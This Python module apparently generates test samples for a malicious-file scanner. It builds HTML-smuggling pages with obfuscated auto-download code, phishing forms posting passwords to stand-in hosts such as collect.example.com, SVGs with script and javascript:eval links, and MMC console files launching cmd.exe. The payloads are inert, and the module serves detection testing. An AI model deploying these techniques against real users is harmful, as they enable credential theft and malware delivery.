"""Web pages, drawings and management consoles."""
import base64
import random

from _letters import letter
from _tricks import folder, trick, zipped

PLAIN = b"""<!DOCTYPE html><html><head><title>News</title><script>
var menu = document.getElementById("menu"); menu.onclick = function () { menu.hidden = true; };
</script></head><body><a href="https://www.example.com/">More</a><img src="https://img.example.com/a.png">
</body></html>"""
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">%s</svg>'


def archive():
    """A zip of noise that does not get smaller."""
    return zipped([("notes.txt", random.Random(1).randbytes(24000))])


def smuggler(script):
    return b"<html><body>Loading...<script>" + script + b"</script></body></html>"


@trick("page-plain", "news.html")
def plain():
    return PLAIN


@trick("page-image-inside", "report.html")
def image_inside():
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + random.Random(2).randbytes(30000))
    return PLAIN + b'<img src="data:image/png;base64,' + png + b'">'


@trick("smuggling-payload", "invoice.html", "file.smuggling/payload")
def payload():
    return smuggler(b'var d = "' + base64.b64encode(archive()) + b'"; var s = atob(d), b = new Uint8Array(s.length);'
                    b'for (var i = 0; i < s.length; i++) b[i] = s.charCodeAt(i);'
                    b'var u = URL.createObjectURL(new Blob([b])); var a = document.createElement("a");'
                    b'a.href = u; a.download = "invoice.zip"; a.click();')


@trick("smuggling-pieces", "invoice.html", "file.smuggling/payload")
def pieces():
    text = base64.b64encode(archive()).decode()
    rows = '" +\n  "'.join(text[i:i + 76] for i in range(0, len(text), 76))
    return smuggler(('var d = "' + rows + '"; window["at" + "ob"](d); new Blob([d]);').encode())


@trick("smuggling-cipher", "invoice.html", "file.smuggling")
def cipher():
    return smuggler(b'var d = "q7Gk2"; var s = window["at" + "ob"](d), b = [];'
                    b'for (var i = 0; i < s.length; i++) b.push(s.charCodeAt(i) ^ 7);'
                    b'var a = document.createElement("a"); a.href = URL["createObject" + "URL"](new Blob([b]));'
                    b'a.setAttribute("download", "x.zip"); a.click();')


@trick("smuggling-link", "scan.html", "file.smuggling/payload")
def link():
    return (b'<html><body><a download="scan.zip" href="data:application/zip;base64,' +
            base64.b64encode(archive()) + b'">Open the scan</a></body></html>')


@trick("smuggling-library", "project")
def library():
    """A library that can do all of it, in parts far from each other."""
    far = b"function filler() { return 'nothing to see here'; }\n" * 2000
    page = smuggler(b"function a(x) { return atob(x); }\n" + far + b"function b(x) { return new Blob([x]); }\n" + far +
                    b"function c(x) { x.download = 'a'; x.click(); }\n")
    return folder([("dist/index.html", page), ("package.json", b"{}\n")])


@trick("page-password", "Microsoft_sign_in.html", "file.page/elsewhere")
def password():
    return (b'<html><body><img src="https://login.brand.test/logo.png"><form method="post" '
            b'action="https://collect.example.com/x.php"><input name="e" value="ben@example.org">'
            b'<input type="password" name="p"></form></body></html>')


@trick("page-password-own", "sign in.html", "file.page")
def password_own():
    return (b'<html><body><a href="https://www.example.com/help">Help</a><form method="post" '
            b'action="https://login.example.com/in"><input type="password" name="p"></form></body></html>')


@trick("page-password-written", "voice mail.html", "file.page/elsewhere")
def password_written():
    page = (b'<html><body><form action="http://192.0.2.7/x"><input type=password name=p></form>'
            b"<p>" + b"Please sign in to listen. " * 8 + b"</p></body></html>")
    text = "".join("%%%02X" % c for c in page)
    return smuggler(f'document.write(unescape("{text}"));'.encode())


@trick("svg-plain", "logo.svg")
def svg_plain():
    return SVG % b'<a href="https://www.example.com/"><circle r="4"/></a><style>circle { fill: red }</style>'


@trick("svg-moves", "flame.svg", "file.svg/script")
def svg_moves():
    return SVG % b'<script type="text/ecmascript"><![CDATA[ function s(e) { e.target.setAttribute("r", 5); } ]]></script>'


@trick("svg-leads", "invoice.svg", "file.svg")
def svg_leads():
    return SVG % b'<svg:script><![CDATA[ window.location.href = "https://example.com/" + "x"; ]]></svg:script>'


@trick("svg-handler", "invoice.svg", "file.svg")
def svg_handler():
    return SVG % b'<rect onload="top.location=&#39;https://example.com/&#39;" width="1" height="1"/>'


@trick("svg-link", "invoice.svg", "file.svg")
def svg_link():
    return SVG % b'<a xlink:href="java&#x0A;script:eval(name)"><text>Open</text></a>'


@trick("svg-form", "sign in.svg", "file.svg/page")
def svg_form():
    return SVG % b'<foreignObject width="9" height="9"><form action="https://example.com/"><input name="a"/></form></foreignObject>'


@trick("svg-inner", "sign in.svg", "file.svg/page")
def svg_inner():
    return SVG % (b'<image href="data:text/html;base64,' + base64.b64encode(PLAIN) + b'"/>')


@trick("msc-task", "Question list.msc", "file.console/task")
def msc_task():
    return (b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><ConsoleTaskpads><ConsoleTaskpad ListSize="Large">'
            b'<Tasks><Task Type="CommandLine" Command="cmd.exe"><CommandLine Directory="" WindowState="Minimized" '
            b'Params="/c echo hello"/></Task></Tasks></ConsoleTaskpad></ConsoleTaskpads></MMC_ConsoleFile>')


@trick("msc-redirect", "sccm.msc", "file.console/redirect")
def msc_redirect():
    return (b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTables><StringTable><Strings>'
            b'<String ID="39" Refs="1">res://apds.dll/redirect.html?target=javascript:eval(1)</String>'
            b'</Strings></StringTable></StringTables></MMC_ConsoleFile>')


@trick("msc-came", "services.msc", "file.console/came")
def msc_came():
    return b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><ConsoleFileID>x</ConsoleFileID></MMC_ConsoleFile>'


@trick("mail-in-mail", "forwarded.eml", "file.smuggling/payload")
def mail_in_mail():
    return letter("forwarded.eml", letter("invoice.html", payload()), "application/octet-stream")


@trick("page-in-mht", "pages.zip", "file.page/elsewhere")
def page_in_mht():
    return zipped([("page.mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"
                    b"Content-Type: text/html\r\nContent-Location: file:///C:/a.htm\r\n\r\n" + password() +
                    b"\r\n--x--\r\n")])
